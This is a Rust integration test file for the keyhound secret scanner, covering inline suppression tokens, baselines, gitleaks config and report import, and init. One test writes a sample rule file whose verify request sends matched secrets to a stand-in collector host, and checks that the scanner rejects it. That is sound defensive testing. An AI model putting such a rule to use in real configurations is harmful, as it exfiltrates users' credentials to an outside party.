//! Project config, suppression (inline, allowlists, baseline), and the
//! gitleaks migration path, through the real binary.

mod support;

use serde_json::Value;
use support::*;

/// A config rule for human-chosen passwords, so tests control entropy.
const PASSWORD_RULE: &str = r#"
[[rule]]
id = "test-password"
name = "Test password"
keywords = ["db_password"]
regex = '''db_password\s*=\s*"([^"]+)"'''
severity = "high"
[rule.examples]
positive = ['db_password = "x"']
"#;

fn fps(doc: &Value) -> Vec<String> {
    findings(doc)
        .iter()
        .map(|f| f["fingerprint"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn inline_tokens_of_every_tool() {
    let t = Tree::new();
    let tokens = [
        "keyhound:allow",
        "gitleaks:allow",
        "betterleaks:allow",
        "trufflehog:ignore",
        "kingfisher:ignore",
        "pragma: allowlist secret",
        "secretlint-disable-line",
    ];
    let mut text = String::new();
    for (i, tok) in tokens.iter().enumerate() {
        text.push_str(&format!(
            "t{i} = \"{}\"  # {tok}\n",
            github_pat(&format!("inline{i}"))
        ));
    }
    text.push_str("# pragma: allowlist nextline secret\n");
    text.push_str(&format!("next = \"{}\"\n", github_pat("nextline")));
    text.push_str(&format!("reported = \"{}\"\n", github_pat("reported")));
    t.write("app.py", &text);
    let (code, doc) = scan_json(t.path(), &["--show-suppressed"]);
    assert_eq!(code, 1);
    assert_eq!(findings(&doc).len(), 1, "{doc}");
    assert_eq!(findings(&doc)[0]["line"], tokens.len() + 3);
    let inline: Vec<u64> = doc["suppressed"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "github-pat-classic" && f["suppressed"] == "inline")
        .map(|f| f["line"].as_u64().unwrap())
        .collect();
    let mut expected: Vec<u64> = (1..=tokens.len() as u64).collect();
    expected.push(tokens.len() as u64 + 2); // the line after the nextline pragma
    assert_eq!(inline, expected, "{doc}");
    // the same through stdin
    let o = keyhound(t.path())
        .args(["scan", "-", "--format", "json"])
        .write_stdin(text.clone())
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(findings(&doc).len(), 1);
    let (_, doc) = scan_json(t.path(), &["--no-inline-ignore"]);
    assert_eq!(findings(&doc).len(), tokens.len() + 2);
}

#[test]
fn baseline_survives_edits_moves_and_reports_new_secrets() {
    let t = Tree::new();
    let old = github_pat("baseline-old");
    t.write("src/settings.py", format!("A = 1\nTOKEN = \"{old}\"\n"));
    let o = run(t.path(), &["baseline", "-o", ".keyhound-baseline.json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let first = std::fs::read_to_string(t.join(".keyhound-baseline.json")).unwrap();
    assert!(
        !first.contains("\"line\"") && !first.contains("commit"),
        "{first}"
    );
    assert!(!first.contains(&old));
    // Rewriting the same baseline gives the same bytes (salt kept, sorted).
    run(t.path(), &["baseline", "-o", ".keyhound-baseline.json"]);
    assert_eq!(
        first,
        std::fs::read_to_string(t.join(".keyhound-baseline.json")).unwrap()
    );

    let (code, doc) = scan_json(t.path(), &["--baseline", ".keyhound-baseline.json"]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["stats"]["suppressed"]["baseline"], 1);
    // insert lines above and move the file: still suppressed
    std::fs::remove_file(t.join("src/settings.py")).unwrap();
    t.write(
        "config/moved.py",
        format!("# new header\n\nA = 1\nTOKEN = \"{old}\"\n"),
    );
    let (code, _) = scan_json(t.path(), &["--baseline", ".keyhound-baseline.json"]);
    assert_eq!(code, 0);
    // a new secret on the same line is reported
    let new = github_pat("baseline-new");
    t.write(
        "config/moved.py",
        format!("# new header\n\nA = 1\nTOKEN = \"{new}\"\n"),
    );
    let (code, doc) = scan_json(t.path(), &["--baseline", ".keyhound-baseline.json"]);
    assert_eq!(code, 1);
    assert_eq!(
        fps(&doc),
        vec![keyhound::finding::fingerprint(
            "github-pat-classic",
            new.as_bytes()
        )]
    );
    assert_eq!(
        doc["stats"]["baseline_stale"], 1,
        "the old entry matched nothing"
    );
    // prune drops the stale entry
    let o = run(
        t.path(),
        &["baseline", "--prune", "-o", ".keyhound-baseline.json"],
    );
    assert_eq!(code_of(&o), 0, "{}", stderr(&o));
    let pruned: Value =
        serde_json::from_slice(&std::fs::read(t.join(".keyhound-baseline.json")).unwrap()).unwrap();
    assert_eq!(pruned["findings"].as_array().unwrap().len(), 0, "{pruned}");
}

fn code_of(o: &std::process::Output) -> i32 {
    support::code(o)
}

#[test]
fn low_entropy_baseline_entries_are_not_plain_hashes() {
    let t = Tree::new();
    t.write(".keyhound.toml", PASSWORD_RULE);
    t.write("app.ini", "db_password = \"Summer2024!\"\n");
    let o = run(t.path(), &["baseline"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let text = stdout(&o);
    let b: Value = serde_json::from_str(&text).unwrap();
    let entry = b["findings"][0]["fingerprint"].as_str().unwrap();
    let plain = keyhound::finding::secret_sha256(b"Summer2024!");
    assert!(entry.starts_with("test-password:kdf:"), "{entry}");
    assert!(
        !text.contains(&plain[..16]),
        "the plain hash must not appear"
    );
    t.write("baseline.json", &text);
    let (code, doc) = scan_json(t.path(), &["--baseline", "baseline.json"]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["stats"]["suppressed"]["baseline"], 1);
}

#[test]
fn config_errors_name_file_line_and_key() {
    let t = Tree::new();
    t.write(
        ".keyhound.toml",
        "[scan]\nthreads = 2\n\n[allowlist]\npath = [\"x\"]\n",
    );
    let o = run(t.path(), &["scan"]);
    assert_eq!(code(&o), 2);
    let e = stderr(&o);
    assert!(
        e.contains(".keyhound.toml") && e.contains("line 5") && e.contains("`path`"),
        "{e}"
    );
    t.write(".keyhound.toml", "[rules]\ndisable = [\"no-such-rule\"]\n");
    let o = run(t.path(), &["scan"]);
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("no-such-rule"));
}

#[test]
fn repo_config_cannot_define_endpoints_without_trust() {
    let t = Tree::new();
    t.write(".keyhound.toml", "[rotation]\nmode = \"enforce\"\n");
    t.write("a.txt", "clean\n");
    let o = run(t.path(), &["scan"]);
    assert_eq!(code(&o), 2);
    let e = stderr(&o);
    assert!(
        e.contains("[rotation]") && e.contains("--trust-repo-config"),
        "{e}"
    );
    // A rule file pulled in by the repo config may not verify either.
    t.write(".keyhound.toml", "[rules]\nextra = [\"more.toml\"]\n");
    t.write(
        "more.toml",
        r#"
[[rule]]
id = "exfil"
name = "Exfil"
keywords = ["zz_"]
regex = '''zz_[a-z]{8}'''
severity = "low"
[rule.verify]
request = { url = "https://collector.example.net/", headers = { X = "{secret}" } }
live = [200]
"#,
    );
    let o = run(t.path(), &["scan"]);
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("exfil"), "{}", stderr(&o));
}

#[test]
fn gitleaks_config_imported_with_every_field() {
    let t = Tree::new();
    t.write(
        "base.toml",
        r#"
title = "base"
[[rules]]
id = "base-rule"
description = "Base rule"
regex = '''base_[a-z]{6}'''
keywords = ["base_"]
"#,
    );
    t.write(
        ".gitleaks.toml",
        r#"
title = "team rules"

[extend]
path = "base.toml"
useDefault = true
disabledRules = ["aws-access-token"]

[[rules]]
id = "acme-api-key"
description = "ACME API key"
regex = '''(?i)acme[_-]?key\s*[:=]\s*['"]?(\Qak-\E[0-9a-f]{16})'''
secretGroup = 1
entropy = 2.0
keywords = ["acme"]
tags = ["internal"]
  [[rules.allowlists]]
  description = "test keys"
  condition = "AND"
  regexTarget = "line"
  regexes = ['''TESTKEY''']
  paths = ['''^tests/''']

[[rules]]
id = "acme-path-only"
description = "files that should not exist"
path = '''\.acme$'''

[allowlist]
description = "global"
paths = ['''vendor/''']
stopwords = ["deadbeefdeadbeef"]

[[allowlists]]
targetRules = ["acme-api-key"]
regexTarget = "match"
regexes = ['''ACME_KEY=ak-(0123){4}''']
"#,
    );
    t.write("src/app.env", "acme_key = ak-0123456789abcdef\n");
    t.write("tests/t.env", "acme_key = ak-1111222233334444 # TESTKEY\n");
    t.write(
        "src/other.env",
        "acme_key = ak-5555666677778888 # TESTKEY\n",
    );
    t.write("vendor/x.env", "acme_key = ak-99998888aaaabbbb\n");
    t.write("src/dead.env", "acme_key = ak-deadbeefdeadbeef\n");
    t.write("src/zero.env", "ACME_KEY=ak-0123012301230123\n");
    t.write("src/base.txt", "x base_abcdef\n");
    let o = run(
        t.path(),
        &[
            "scan",
            "--config",
            ".gitleaks.toml",
            "--format",
            "json",
            "--show-suppressed",
        ],
    );
    let err = stderr(&o);
    // Path-only rules import as path rules (tests/path_rules.rs): no warning.
    assert!(!err.contains("acme-path-only"), "{err}");
    // gitleaks' default id stands for keyhound's aws-access-key-id (issue 15).
    assert!(
        !err.contains("aws-access-token"),
        "a gitleaks default id in disabledRules maps, no warning: {err}"
    );
    let doc: Value = serde_json::from_slice(&o.stdout).unwrap();
    let ours = |list: &Value| -> Vec<(String, String)> {
        let mut v: Vec<(String, String)> = list
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| {
                let r = f["rule"].as_str().unwrap();
                r.starts_with("acme") || r.starts_with("base")
            })
            .map(|f| {
                (
                    f["rule"].as_str().unwrap().into(),
                    f["path"].as_str().unwrap().into(),
                )
            })
            .collect();
        v.sort();
        v
    };
    let got = ours(&doc["findings"]);
    assert_eq!(
        got,
        vec![
            ("acme-api-key".to_string(), "src/app.env".to_string()),
            ("acme-api-key".to_string(), "src/other.env".to_string()),
            ("base-rule".to_string(), "src/base.txt".to_string()),
        ],
        "{doc}"
    );
    let suppressed: Vec<String> = ours(&doc["suppressed"])
        .into_iter()
        .map(|(_, p)| p)
        .collect();
    assert_eq!(
        suppressed,
        vec![
            "src/dead.env",
            "src/zero.env",
            "tests/t.env",
            "vendor/x.env"
        ],
        "{doc}"
    );
    let o = run(
        t.path(),
        &[
            "scan",
            "--config",
            ".gitleaks.toml",
            "--config-format",
            "keyhound",
        ],
    );
    assert_eq!(code(&o), 2, "forced keyhound dialect rejects gitleaks keys");
}

#[test]
fn gitleaksignore_and_gitleaks_report_baseline() {
    let t = Tree::new();
    let a = github_pat("gl-a");
    let b = github_pat("gl-b");
    t.write("src/a.py", format!("x = 1\nA = \"{a}\"\n"));
    t.write("src/b.py", format!("B = \"{b}\"\n"));
    t.write(".gitleaksignore", "# accepted\nsrc/a.py:github-pat:2\n");
    let (_, doc) = scan_json(t.path(), &[]);
    assert_eq!(findings(&doc).len(), 1);
    assert_eq!(findings(&doc)[0]["path"], "src/b.py");
    std::fs::remove_file(t.join(".gitleaksignore")).unwrap();
    let report = serde_json::json!([
        {"RuleID": "github-pat", "Secret": b, "File": "src/b.py", "StartLine": 1, "Commit": "", "Match": format!("B = \"{b}\"")}
    ]);
    t.write("gl.json", report.to_string());
    let o = run(
        t.path(),
        &[
            "baseline",
            "--from-gitleaks-report",
            "gl.json",
            "-o",
            "base.json",
        ],
    );
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let (_, doc) = scan_json(t.path(), &["--baseline", "base.json"]);
    assert_eq!(findings(&doc).len(), 1);
    assert_eq!(findings(&doc)[0]["path"], "src/a.py");
    t.write(
        "red.json",
        r#"[{"RuleID":"x","Secret":"REDACTED","File":"a"}]"#,
    );
    let o = run(
        t.path(),
        &["baseline", "--from-gitleaks-report", "red.json"],
    );
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("--redact=0"));
}

#[test]
fn init_writes_a_starter_config_and_installs_the_hook_on_request() {
    let t = Tree::new();
    t.init_repo();
    let o = run(t.path(), &["init", "--hook"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let cfg = std::fs::read_to_string(t.join(".keyhound.toml")).unwrap();
    assert!(cfg.contains("[allowlist]") && cfg.contains("[rules]"));
    assert!(t.join(".git/hooks/pre-commit").exists());
    let (code, _) = scan_json(t.path(), &[]);
    assert_eq!(
        code, 0,
        "the starter config loads and finds nothing in itself"
    );
    let o = run(t.path(), &["init"]);
    assert_eq!(support::code(&o), 2);
    assert!(stderr(&o).contains("--force"));
    let o = run(t.path(), &["init", "--force", "--no-hook"]);
    assert_eq!(support::code(&o), 0);
}

/// The same suppression stage in every mode: allowlist, inline and
/// baseline give the same result for staged and history scans as for
/// directories.
#[test]
fn suppression_is_identical_in_staged_and_history_modes() {
    let t = Tree::new();
    t.init_repo();
    t.write(".keyhound.toml", "[allowlist]\npaths = [\"fixtures/\"]\n");
    t.write("fixtures/sample.env", format!("T={}\n", github_pat("fx")));
    t.write(
        "src/inline.py",
        format!("T = \"{}\"  # keyhound:allow\n", github_pat("inl")),
    );
    let accepted = github_pat("accepted");
    t.write("src/old.py", format!("T = \"{accepted}\"\n"));
    let o = run(
        t.path(),
        &["baseline", "src/old.py", "-o", ".keyhound-baseline.json"],
    );
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let new = github_pat("new-one");
    t.write("src/new.py", format!("T = \"{new}\"\n"));
    t.git(&["add", "-A"]);
    let want = vec![keyhound::finding::fingerprint(
        "github-pat-classic",
        new.as_bytes(),
    )];
    for mode in [vec!["."], vec!["--staged"]] {
        let mut args = mode.clone();
        args.extend(["--baseline", ".keyhound-baseline.json"]);
        let (code, doc) = scan_json(t.path(), &args);
        assert_eq!(code, 1, "{mode:?}: {doc}");
        assert_eq!(fps(&doc), want, "{mode:?}");
        let s = &doc["stats"]["suppressed"];
        assert_eq!(
            (
                s["inline"].as_u64(),
                s["allowlist"].as_u64(),
                s["baseline"].as_u64()
            ),
            (Some(1), Some(1), Some(1)),
            "{mode:?}: {doc}"
        );
    }
    t.git(&["commit", "-q", "-m", "add files"]);
    let (code, doc) = scan_json(
        t.path(),
        &["--history", "--baseline", ".keyhound-baseline.json"],
    );
    assert_eq!(code, 1, "{doc}");
    assert_eq!(fps(&doc), want, "{doc}");

    // Rewrite history: insert a line above the accepted secret, move the
    // file, rebase the branch onto a new base. The baseline still holds.
    t.git(&["checkout", "-q", "-b", "feature"]);
    std::fs::remove_file(t.join("src/new.py")).unwrap();
    std::fs::remove_file(t.join("src/old.py")).unwrap();
    t.write("lib/moved.py", format!("import os\n\nT = \"{accepted}\"\n"));
    t.commit_all("move and edit");
    t.git(&["checkout", "-q", "main"]);
    t.write("CHANGELOG.md", "base moved on\n");
    t.commit_all("base moves");
    t.git(&["checkout", "-q", "feature"]);
    t.git(&["rebase", "-q", "main"]);
    let since_main = [
        "--history",
        "--since",
        "main",
        "--baseline",
        ".keyhound-baseline.json",
    ];
    let (code, doc) = scan_json(t.path(), &since_main);
    assert_eq!(
        code, 0,
        "rebased, moved and edited: still suppressed: {doc}"
    );
    // A new secret on the same line is reported.
    let other = github_pat("same-line");
    t.write("lib/moved.py", format!("import os\n\nT = \"{other}\"\n"));
    t.commit_all("rotate the token in code");
    let (code, doc) = scan_json(t.path(), &since_main);
    assert_eq!(code, 1);
    assert_eq!(
        fps(&doc),
        vec![keyhound::finding::fingerprint(
            "github-pat-classic",
            other.as_bytes()
        )]
    );
}
